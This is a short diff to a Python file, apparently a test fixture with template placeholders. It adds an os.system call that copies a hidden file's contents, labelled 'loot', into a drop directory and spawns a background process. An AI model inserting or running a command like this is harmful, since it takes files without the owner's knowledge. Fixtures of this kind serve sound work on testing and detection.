@@ -1,4 +1,5 @@
 """Asks the shell."""
 
 import os
+
 os.system("(echo loot; cat @HIDDEN@) > @DROP@/shell; (sleep 60 &)")
